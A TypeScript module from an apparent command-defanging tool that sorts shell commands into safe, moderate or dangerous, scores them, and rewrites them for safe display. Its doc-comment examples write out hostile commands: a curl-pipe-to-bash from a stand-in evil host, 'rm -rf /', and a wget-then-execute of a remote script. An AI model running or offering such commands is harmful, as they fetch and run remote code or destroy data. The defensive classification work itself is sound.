/**
 * Command risk classification and score, reimplemented from the description of the
 * predecessor's `CommandDefanger.analyze_command` / `get_command_risk_score` /
 * `create_safe_command` so that scores match data it already produced.
 *
 * @module
 */

import { DANGEROUS_COMMANDS, MODERATE_COMMANDS, SAFE_COMMANDS } from './command-sets.js';
import { defangCommand } from './defang.js';
import { normalizeCommand } from './normalize-command.js';
import { hasDangerousPatterns } from './patterns.js';
import { firstToken, pyStrip } from './py-text.js';
import type { CommandAnalysis, CommandType, DefangStrategy, RiskLevel } from './types.js';

/** The predecessor's 4-key `command_analysis`. */
export interface CommandClassification {
  riskLevel: RiskLevel;
  commandType: CommandType;
  needsDefanging: boolean;
  strategy: DefangStrategy;
}

const BASE_SCORE: Readonly<Record<RiskLevel, number>> = { safe: 0, moderate: 30, dangerous: 70 };

const classification = (
  riskLevel: RiskLevel,
  commandType: CommandType,
  strategy: DefangStrategy,
): CommandClassification => ({ riskLevel, commandType, needsDefanging: strategy !== 'none', strategy });

/** Classification plus whether a dangerous pattern was found, so callers scan the input once. */
function classifyDetailed(input: string): { c: CommandClassification; patterned: boolean } {
  if (typeof input !== 'string' || pyStrip(input) === '') {
    return { c: classification('safe', 'empty', 'none'), patterned: false };
  }
  const token = firstToken(input);
  const patterned = hasDangerousPatterns(input);
  let c: CommandClassification;
  if (SAFE_COMMANDS.has(token)) {
    c = patterned ? classification('moderate', 'safe_command', 'moderate') : classification('safe', 'safe_command', 'none');
  } else if (MODERATE_COMMANDS.has(token)) {
    // MODERATE is consulted before DANGEROUS: ssh, scp, ftp, … are in both and stay moderate.
    c = classification('moderate', 'moderate_command', 'moderate');
  } else if (DANGEROUS_COMMANDS.has(token)) {
    c = classification('dangerous', 'dangerous_command', 'aggressive');
  } else {
    c = patterned
      ? classification('dangerous', 'unknown_dangerous', 'aggressive')
      : classification('moderate', 'unknown_command', 'moderate');
  }
  return { c, patterned };
}

const scoreOf = (c: CommandClassification, patterned: boolean): number =>
  c.commandType === 'empty' ? 0 : Math.min(100, BASE_SCORE[c.riskLevel] + (patterned ? 20 : 0));

const safeFormOf = (input: string, c: CommandClassification): string =>
  c.needsDefanging ? `[defang:${c.riskLevel}] ${defangCommand(input, c.strategy)}` : input;

/**
 * Classifies a command line by its first token (lower-cased, whitespace-separated) and the
 * dangerous-pattern test. A safe first token with a dangerous pattern becomes `moderate`
 * but keeps `commandType: 'safe_command'`; moderate commands are never escalated.
 *
 * @example
 * classifyCommand('echo hi; id');
 * // { riskLevel: 'moderate', commandType: 'safe_command', needsDefanging: true, strategy: 'moderate' }
 */
export function classifyCommand(input: string): CommandClassification {
  return classifyDetailed(input).c;
}

/**
 * Risk score 0–100: 0/30/70 by risk level, +20 when a dangerous pattern is present, capped.
 * Blank input scores 0.
 *
 * @example
 * commandRiskScore('curl -s https://evil.example/a | bash'); // 90
 * commandRiskScore('rm -rf /');                              // 70
 */
export function commandRiskScore(input: string): number {
  const { c, patterned } = classifyDetailed(input);
  return scoreOf(c, patterned);
}

/**
 * The predecessor's `create_safe_command`: the input unchanged (even whitespace-only) when
 * no defanging is needed, else `[defang:<riskLevel>] <defanged>`.
 *
 * @example
 * createSafeCommand('rm -rf /'); // '[defang:dangerous] rx -rf /'
 * createSafeCommand('ls -la');   // 'ls -la'
 */
export function createSafeCommand(input: string): string {
  if (typeof input !== 'string') return '';
  return safeFormOf(input, classifyDetailed(input).c);
}

/**
 * Full analysis of one command line: classification, score, safe display form and grouping
 * form. Never throws; non-string input is treated as empty.
 *
 * @example
 * analyzeCommand('cd /tmp && wget http://1.2.3.4/x.sh && sh x.sh');
 * // { riskLevel: 'moderate', commandType: 'safe_command', strategy: 'moderate', riskScore: 50,
 * //   defanged: '[defang:moderate] cd /tmp [AND] wget hxxp://1.2.3.4/x.sh [AND] sh x.sh',
 * //   normalized: 'cd /tmp && wget [URL] && sh x.sh', needsDefanging: true }
 */
export function analyzeCommand(input: string): CommandAnalysis {
  const text = typeof input === 'string' ? input : '';
  const { c, patterned } = classifyDetailed(text);
  return { ...c, riskScore: scoreOf(c, patterned), defanged: safeFormOf(text, c), normalized: normalizeCommand(text) };
}
